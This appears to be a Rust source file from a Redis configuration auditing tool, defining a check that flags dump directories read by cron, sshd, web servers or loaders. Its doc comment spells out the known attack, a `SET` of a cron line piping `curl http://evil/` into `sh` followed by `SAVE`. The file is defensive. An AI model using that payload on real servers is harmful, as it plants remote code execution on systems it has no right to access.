//! PERS-004.

use redan_model::{Evidence, Server};

use crate::control;
use crate::control::Context;
use crate::outcome::{Failure, Outcome};
use crate::support::{data_server, evidence, setting};

control! {
    /// The directory into which the server writes its dump is not one that another program executes
    /// or trusts: a web root, a cron directory, an `.ssh` directory, a start-up or module directory.
    ///
    /// # Why
    /// A dump can contain arbitrary bytes chosen by whoever may write keys. Where a web server, cron
    /// or sshd reads the file, those bytes become code or credentials.
    ///
    /// # Attack
    /// `SET x "\n* * * * * curl http://evil/ | sh\n"`, then `SAVE`: cron skips the lines that it
    /// does not understand and runs the one that it does. The same works with an SSH key in
    /// `authorized_keys` and with PHP in a web root.
    ///
    /// # Fix
    /// Give the server a directory of its own: `dir /var/lib/redis`, owner `redis`, mode 0750. If you
    /// did not set this value yourself, treat the host as compromised.
    ///
    /// # Sources
    /// - Salvatore Sanfilippo, "A few things about Redis security" (<http://antirez.com/news/96>)
    /// - Datadog detection rule def-000-21l (<https://docs.datadoghq.com/security/default_rules/def-000-21l/>)
    /// - Metasploit module `auxiliary/scanner/redis/file_upload`
    "PERS-004", "dump-in-executable-directory";
    title: "The server writes its dump where other programs run it",
    severity: Critical, aspect: Data,
    owasp: ["A05:2021", "A08:2021"], iso27001: ["A.8.7", "A.8.9"], pci: ["2.2.1", "5.2.1"], nist_csf: ["PR.PS-01", "DE.CM-09"], ley1581: [],
    consequence_of: [],
    check: Server(check),
}

/// What reads each directory, itself or below.
static TRUSTED_BY: &[(&str, &str)] = &[
    ("/var/www", "the web server"),
    ("/srv/www", "the web server"),
    ("/usr/share/nginx", "the web server"),
    ("/usr/local/apache2", "the web server"),
    ("/opt/lampp/htdocs", "the web server"),
    ("/var/spool/cron", "cron"),
    ("/etc/cron", "cron"),
    ("/etc/init.d", "the init system"),
    ("/etc/systemd", "the init system"),
    ("/usr/lib/systemd", "the init system"),
    ("/etc/profile.d", "login shells"),
    ("/etc/ld.so.conf.d", "the dynamic linker"),
    ("/etc/sudoers.d", "sudo"),
    ("/etc/pam.d", "PAM"),
    ("/usr/local/lib/redis/modules", "the module loader"),
    ("/usr/lib/redis/modules", "the module loader"),
    ("/usr/local/bin", "every shell"),
    ("/usr/bin", "every shell"),
];

fn check(server: &Server, context: &Context<'_>) -> Result<Outcome, Outcome> {
    data_server(server)?;
    let dir = setting(server, "dir")?;
    let Some(reader) = reader(dir.text()) else { return Ok(Outcome::Pass) };
    let path = dir.text();
    let mut failure = Failure::new("dir", format!("the dump goes to {path}, which {reader} reads"))
        .with(evidence("dir", dir, context))
        .remedy("`dir /var/lib/redis`");
    if let Some(name) = server.settings.get("dbfilename") {
        let shown = name.value.display(context.redactor);
        failure = failure.with(Evidence::of("dbfilename", &shown, &name.origin));
    }
    Ok(failure.into())
}

/// Who trusts files in the directory, if anybody does.
fn reader(dir: &str) -> Option<&'static str> {
    let dir = dir.trim_end_matches('/');
    if dir.is_empty() {
        return Some("the whole system");
    }
    if dir.split('/').any(|part| part == ".ssh") {
        return Some("sshd");
    }
    if dir.split('/').any(|part| matches!(part, "public_html" | "htdocs" | "wwwroot")) {
        return Some("the web server");
    }
    let below = |root: &str| {
        dir.strip_prefix(root).is_some_and(|rest| rest.is_empty() || rest.starts_with(['/', '.']))
    };
    TRUSTED_BY.iter().find(|(root, _)| below(root)).map(|(_, reader)| *reader)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_directories_that_others_trust_are_named() {
        for dir in
            ["/", "//", "/root/.ssh", "/var/www/html/", "/etc/cron.d", "/home/a/public_html/x"]
        {
            assert!(reader(dir).is_some(), "{dir}");
        }
        for dir in ["/data", "./", "/var/lib/redis", "/var/wwwx", "/root", "/etc/redis"] {
            assert_eq!(reader(dir), None, "{dir}");
        }
    }
}
